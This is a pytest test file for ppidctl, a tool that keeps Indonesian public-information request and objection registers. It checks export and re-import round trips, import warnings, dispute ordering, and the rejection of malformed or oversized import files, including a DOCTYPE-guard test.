    other = Runner(init(tmp_path / "b", "Komisi Pemilihan Umum Kota Mataram", "5271").root)
    said = _warned(other, flat, "permohonan")
    assert any(
        w.startswith("1 batas waktu dihitung ulang berbeda dengan berkas asal") for w in said
    )


def _objection_on_a_refusal(run) -> None:
    """Request 1 (2 March) refused on 10 March; objection 1 to it filed on 12 March."""
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-02", "--tanpa-surat")
    run.ok("permohonan", "putuskan", "1", "--keputusan", "ditolak", "--pasal", "Pasal 17 huruf h",
           "--sk-pengecualian", "SK 5", "--uji-konsekuensi", "Data pribadi", "--tanggal",
           "2026-03-10", "--tanpa-surat")  # fmt: skip
    run.ok("keberatan", "catat", "--permohonan", "1", "--alasan", "a", "--kasus-posisi", "Ditolak",
           "--dokumen", "formulir,identitas", "--tanggal", "2026-03-12", "--tanpa-surat")  # fmt: skip


def test_the_objection_book_imported_says_a_reply_delivered_is_a_note_only(run, ws, tmp_path):
    # "Status: disampaikan" in the book's Keterangan: the delivery and the requester's dispute
    # window lost, silently — the warning's pattern could not match it (review sesi30 M2)
    from ppidctl.workspace import init

    from conftest import Runner

    _objection_on_a_refusal(run)
    for step in (["teruskan"], ["tanggapi", "--keputusan", "diterima", "--tanpa-surat"],
                 ["sampaikan"]):  # fmt: skip
        run.ok("keberatan", step[0], "1", *step[1:], "--tanggal", "2026-03-13")
    book = tmp_path / "keberatan.xlsx"
    run.ok("ekspor", "--register", "keberatan", "--tanpa-sensor", "-o", str(book))
    other = Runner(init(tmp_path / "b", "Komisi Pemilihan Umum Kota Mataram", "5271").root)
    said = _warned(other, book, "keberatan")
    assert any(w.startswith("1 baris buku register ppidctl") for w in said), said


def test_the_book_warning_knows_every_step_the_book_writes_only_as_a_remark():
    # in step with reports/registerbook.py: "Status: pleno" and a delivery on an order were
    # imported silently as notes (review sesi30b L4); the plain states are no step lost
    from ppidctl.reports.registerbook import _remarks_objection as objection
    from ppidctl.reports.registerbook import _remarks_request as request
    from ppidctl.services.impor import _KETERANGAN_PPIDCTL as told

    order = "informasi diserahkan 2026-03-30 atas keberatan 001/KEB yang dikabulkan Atasan PPID"
    lost = [
        objection({"status": "diteruskan"}),
        objection({"status": "pleno", "terlambat": "ya", "jatuh_tempo": "2026-05-04"}),
        objection({"status": "disampaikan"}),
        objection(
            {
                "status": "sengketa",
                "tanggapan_pemohon": "sengketa",
                "tanggapan_pemohon_pada": "2026-05-04",
            }
        ),  # fmt: skip
        request({"status": "selesai", "catatan": order}),
        request({"status": "diperpanjang", "diperpanjang_pada": "2026-03-16"}),
        request({"status": "terdaftar", "tahapan": "Pencalonan"}),
    ]
    assert [x for x in lost if not told.search(x)] == []
    plain = [request({"status": "selesai"}), objection({"status": "ditanggapi"}),
             request({"status": "terdaftar", "jatuh_tempo": "2026-03-25"})]  # fmt: skip
    assert [x for x in plain if told.search(x)] == []


def test_a_dispute_filed_before_the_reply_was_delivered_imports_again(run, tmp_path):
    # review sengketa F6: the requester may go to the Komisi Informasi once the response deadline
    # lapsed, and a late reply still be delivered after; the importer's step order refused
    # ppidctl's own export of such a case ("tanggapan_pemohon_pada … sebelum disampaikan_pada")
    from ppidctl.workspace import init

    from conftest import Runner

    _objection_on_a_refusal(run)
    run.ok("keberatan", "teruskan", "1", "--tanggal", "2026-03-13")
    run.ok("keberatan", "tanggapan-pemohon", "1", "--sikap", "sengketa", "--tanggal", "2026-05-05")
    run.ok("keberatan", "tanggapi", "1", "--keputusan", "diterima", "--tanggal", "2026-05-06",
           "--tanpa-surat")  # fmt: skip
    run.ok("keberatan", "sampaikan", "1", "--tanggal", "2026-05-07")
    flat = tmp_path / "keberatan.csv"
    run.ok("ekspor", "--register", "keberatan", "--tanpa-sensor", "-o", str(flat))
    other = Runner(init(tmp_path / "b", "Komisi Pemilihan Umum Kota Mataram", "5271").root)
    other.ok("impor", str(flat), "--register", "keberatan")
    row = json.loads(other.ok("keberatan", "lihat", "1", "--format", "json").stdout)["data"]
    assert (row["tanggapan_pemohon_pada"], row["disampaikan_pada"], row["status"]) == (
        "2026-05-05", "2026-05-07", "sengketa"
    )  # fmt: skip


def test_impor_refusals_at_the_desk_change_nothing(run, tmp_path):
    # each was tested on the reader alone, never through the CLI with the workspace's bytes
    # compared (review tolak B, M4, L2)
    run.refused("impor", str(tmp_path / "tidak-ada.csv"), "--register", "keberatan",
                message=f"berkas '{tmp_path / 'tidak-ada.csv'}' tidak ada")  # fmt: skip
    bad = tmp_path / "rusak.xlsx"
    bad.write_bytes(b"bukan zip")
    run.refused("impor", str(bad), "--register", "permohonan",
                message="berkas 'rusak.xlsx' tidak bisa dibuka: rusak, dilindungi kata sandi")  # fmt: skip
    run.refused("impor", str(KEB), "--register", "keberatan", "--lembar", "Sheet1",
                message="berkas CSV tidak punya lembar")  # fmt: skip
    run.refused("impor", str(XLSX), "--register", "permohonan", "--pemisah", ";",
                message="--pemisah dan --encoding hanya untuk berkas CSV")  # fmt: skip
    run.refused("impor", str(XLSX), "--register", "permohonan", "--lembar", "TidakAda",
                message="lembar 'TidakAda' tidak ada di 'register-permohonan-2024.xlsx'")  # fmt: skip
    missing = tmp_path / "tidak-ada.toml"
    run.refused("impor", str(XLSX), "--register", "permohonan", "--peta", str(missing),
                message=f"berkas peta '{missing}' tidak ada")  # fmt: skip
    peta = tmp_path / "peta.toml"
    peta.write_text("[lain]\nx = 1\n", encoding="utf-8")
    run.refused("impor", str(XLSX), "--register", "permohonan", "--peta", str(peta),
                message=f"berkas peta '{peta}' tidak punya tabel [kolom]")  # fmt: skip
    peta.write_text('[kolom]\n"Nama Pemohon" = "tidak_ada"\n', encoding="utf-8")
    run.refused("impor", str(XLSX), "--register", "permohonan", "--peta", str(peta),
                message="dipetakan ke 'tidak_ada', yang tidak ada di register permohonan")  # fmt: skip
    huge = KEB.read_bytes().decode("cp1252").splitlines()
    huge[2] = huge[2] + ";" + "x" * 140_000
    big = tmp_path / "besar.csv"
    big.write_text("\n".join(huge) + "\n", encoding="cp1252")
    run.refused("impor", str(big), "--register", "keberatan",
                message="CSV rusak (satu sel lebih dari 131.072 karakter)")  # fmt: skip
    ods = tmp_path / "doctype.ods"  # (the entity-expansion guard)
    with zipfile.ZipFile(ods, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr(
            "content.xml",
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&a;'
            "</office:document-content>",
        )
    run.refused("impor", str(ods), "--register", "permohonan",
                message="'doctype.ods' tidak dapat dibaca: content.xml memuat DOCTYPE")  # fmt: skip


def test_an_imported_objection_closed_without_a_response_is_not_answered(run):
    # an old book's objection closed ("selesai") with no response recorded (review tolak M3)
    run.ok("impor", str(XLSX), "--register", "permohonan", "--lewati-baris-bermasalah")
    run.ok("impor", str(KEB), "--register", "keberatan", "--lewati-baris-bermasalah")
    run.refused(
        "keberatan", "tanggapi", "007/KEB/PPID/5271/III/2024", "--keputusan", "diterima",
        "--tanggal", "2026-03-10", "--tanpa-surat",
        message="keberatan 007/KEB/PPID/5271/III/2024 sudah ditutup (selesai) tanpa tanggapan "
        "Atasan PPID",
    )  # fmt: skip
